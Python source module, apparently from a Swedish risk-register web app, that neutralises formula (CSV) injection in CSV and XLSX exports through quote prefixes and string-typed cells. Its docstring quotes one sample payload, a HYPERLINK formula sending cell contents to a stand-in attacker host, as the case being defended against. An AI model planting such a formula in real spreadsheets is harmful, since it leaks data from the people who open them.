"""Spreadsheet exports that cannot run formulas: the one place every CSV/XLSX export goes through.

Formula injection (CSV injection): a cell whose text starts with ``=``, ``+``, ``-``, ``@``, tab
or carriage return may be evaluated as a formula when the file is opened in Excel or
LibreOffice, e.g. ``=HYPERLINK("http://evil.example/?"&A1, "Klicka")`` typed into a risk
title. Every exported text cell therefore goes through :func:`neutralise_cell`:

* **CSV**: such text gets a leading ``'`` (OWASP's advice). Excel shows the text; riskreg's own
  plan importer removes exactly that prefix again.
* **XLSX**: such text is stored as a string cell (never as a formula) with Excel's
  "quote prefix" flag, so the value is unchanged and nothing is added. Characters XML cannot
  carry (most control characters) are dropped, because openpyxl would otherwise raise.

Numbers, dates and booleans are left alone: they are typed values, not text.

Use from any feature::

    from riskreg.exports import csv_response, xlsx_response

    header = ["Id", "Rubrik", "Belopp (kr)"]
    rows = ((c.id, c.title, c.amount_ore / 100) for c in controls)
    return csv_response(header, rows, "kontroller.csv")      # streamed, UTF-8 with BOM, ';'
    return xlsx_response(header, rows, "kontroller.xlsx", sheet="Kontroller")

or :func:`iter_csv` / :func:`xlsx_bytes` when the bytes go somewhere else than a response.
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any, Final

from flask import Response, stream_with_context
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font

__all__ = [
    "FORMULA_START",
    "XLSX_MAX_ROWS",
    "csv_response",
    "iter_csv",
    "neutralise_cell",
    "rows_to_csv_text",
    "xlsx_bytes",
    "xlsx_response",
    "xlsx_safe_text",
]

#: Text starting with one of these may be run as a formula by a spreadsheet program.
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
#: Excel's sheet holds 1,048,576 rows, one of which is the header.
XLSX_MAX_ROWS: Final = 1_048_575
XLSX_MIMETYPE: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


#: The separators a CSV may be opened with: Swedish Excel reads ``;``, most others ``,``.
SEPARATORS: Final = (",", ";")


def neutralise_cell(value: Any, *, delimiter: str | None = None) -> Any:
    """Prefix ``'`` to text a spreadsheet would otherwise evaluate; other values unchanged.

    A CSV may be opened with the other separator than it was written with (a comma file in
    Swedish Excel, which splits at ``;``). Then every separator inside a text starts a new
    cell: ``Kostnad;=1+1`` in a comma file becomes the cells ``Kostnad`` and ``=1+1``. So a
    ``'`` also goes after each such separator that a formula character follows (quotes,
    which a reader would take as the start of a quoted cell, looked through). ``delimiter``:
    the separator the file is written with (inside quotes it splits nothing); None checks
    both.
    """
    if not isinstance(value, str):
        return value
    others = tuple(sep for sep in SEPARATORS if sep != delimiter)
    if any(sep in value for sep in others):
        parts: list[str] = []
        for index, char in enumerate(value):
            parts.append(char)
            if char in others and value[index + 1 :].lstrip('"').startswith(FORMULA_START):
                parts.append("'")
        value = "".join(parts)
    if value.startswith(FORMULA_START):
        return "'" + value
    return value


def xlsx_safe_text(text: str) -> str:
    """Drop the characters an XLSX (XML) cell cannot hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def _csv_value(value: Any, delimiter: str, decimal: str = ",") -> Any:
    if value is None:
        return ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, bool):
        return "ja" if value else "nej"
    if isinstance(value, Decimal | float) and decimal != ".":
        # Swedish Excel reads "12,5" as a number and "12.5" as text (or a date). The cell is
        # quoted by QUOTE_NONNUMERIC, which Excel still reads as a number.
        return format(value, "f" if isinstance(value, Decimal) else "").replace(".", decimal)
    return neutralise_cell(value, delimiter=delimiter) if isinstance(value, str) else value


class _Line:
    """A file-like object that hands back what csv.writer wrote for one row."""

    def __init__(self) -> None:
        self.text = ""

    def write(self, text: str) -> int:
        self.text += text
        return len(text)


def iter_csv(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ";",
    bom: bool = True,
    decimal: str = ",",
) -> Iterator[str]:
    """CSV text, one row at a time (constant memory), every text cell quoted and neutralised.

    Defaults suit Swedish Excel: ``;`` as separator, a UTF-8 byte-order mark, so that
    double-clicking the file shows åäö and columns correctly, and a decimal comma
    (``decimal``) for Decimal and float values. Dates are ISO (2025-08-15), which every Excel
    reads as a date. Line ends are CRLF. Every text is quoted (integers are not), and
    neutralised for both separators (neutralise_cell), so the file is safe whether it is
    opened with ``;`` or with ``,``.
    """
    line = _Line()
    writer = csv.writer(
        line, delimiter=delimiter, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC
    )
    writer.writerow([_csv_value(h, delimiter) for h in header])
    yield ("\ufeff" if bom else "") + line.text
    for row in rows:
        line.text = ""
        writer.writerow([_csv_value(v, delimiter, decimal) for v in row])
        yield line.text


def csv_response(
    header: Sequence[str], rows: Iterable[Sequence[Any]], filename: str, **options: Any
) -> Response:
    """A streamed CSV download (see :func:`iter_csv`). Rows may be a lazy query.

    The decimal sign follows the reader's language (comma in Swedish, point in English)
    unless ``decimal`` is given; the caller translates the headings.
    """
    if "decimal" not in options:
        options["decimal"] = _decimal_sign()
    body = (chunk.encode("utf-8") for chunk in iter_csv(header, rows, **options))
    return Response(
        stream_with_context(body),
        mimetype="text/csv; charset=utf-8",
        headers={"Content-Disposition": _attachment(filename)},
    )


def xlsx_bytes(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet: str = "Export",
    widths: Sequence[float] | None = None,
    hidden: Sequence[int] = (),
) -> bytes:
    """An XLSX workbook written in openpyxl's streaming (write-only) mode.

    ``hidden``: 1-based numbers of columns to hide (e.g. ids a re-import needs).

    Text is always a string cell (never a formula); formula-like text carries the quote-prefix
    flag. Raises ValueError beyond Excel's row limit (filter, or export CSV instead).
    """
    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(title=xlsx_safe_text(sheet)[:31] or "Export")
    if widths:
        from openpyxl.utils import get_column_letter

        for index, width in enumerate(widths, start=1):
            worksheet.column_dimensions[get_column_letter(index)].width = width
    if hidden:
        from openpyxl.utils import get_column_letter

        for index in hidden:
            worksheet.column_dimensions[get_column_letter(index)].hidden = True
    bold = Font(bold=True)
    heading = []
    for title in header:
        cell = _text_cell(worksheet, title)
        cell.font = bold
        heading.append(cell)
    worksheet.append(heading)
    for count, row in enumerate(rows, start=1):
        if count > XLSX_MAX_ROWS:
            raise ValueError("too many rows for one XLSX sheet")
        worksheet.append([_xlsx_value(worksheet, value) for value in row])
    # Spool to disk beyond a few MB: an audit trail export can be large.
    with tempfile.SpooledTemporaryFile(max_size=16 * 1024 * 1024) as spool:
        workbook.save(spool)
        spool.seek(0)
        return spool.read()


def xlsx_response(
    header: Sequence[str], rows: Iterable[Sequence[Any]], filename: str, **options: Any
) -> Response:
    return Response(
        xlsx_bytes(header, rows, **options),
        mimetype=XLSX_MIMETYPE,
        headers={"Content-Disposition": _attachment(filename)},
    )


def _text_cell(worksheet: Any, text: str) -> Cell:
    safe = xlsx_safe_text(text)
    cell = WriteOnlyCell(worksheet, value=safe)
    # openpyxl would store "=..." as a formula and "#N/A" as an error value; text is text.
    cell.data_type = "s"
    if safe.startswith(FORMULA_START):
        cell.quotePrefix = True
    return cell


def _xlsx_value(worksheet: Any, value: Any) -> Any:
    if isinstance(value, str):
        return _text_cell(worksheet, value)
    if isinstance(value, datetime):
        # Excel has no time zones: write the wall-clock time the caller chose, naive.
        cell = WriteOnlyCell(worksheet, value=value.replace(tzinfo=None))
        cell.number_format = "yyyy-mm-dd hh:mm:ss"
        return cell
    if isinstance(value, date):
        # openpyxl writes a date as a date; types-openpyxl's value type leaves it out
        cell = WriteOnlyCell(worksheet, value=value)  # type: ignore[arg-type]
        cell.number_format = "yyyy-mm-dd"
        return cell
    return value


def _decimal_sign() -> str:
    from flask import has_request_context
    from flask_babel import get_locale

    if not has_request_context():
        return ","
    locale = get_locale()
    return "." if locale is not None and locale.language == "en" else ","


def _attachment(filename: str) -> str:
    # Our own ASCII names only; a user-chosen name would need RFC 6266 encoding.
    safe = "".join(ch for ch in filename if ch.isascii() and (ch.isalnum() or ch in "-_."))
    return f'attachment; filename="{safe or "export"}"'


def rows_to_csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], **options: Any) -> str:
    """The whole CSV as one string (small exports and tests)."""
    buffer = io.StringIO()
    for chunk in iter_csv(header, rows, **options):
        buffer.write(chunk)
    return buffer.getvalue()
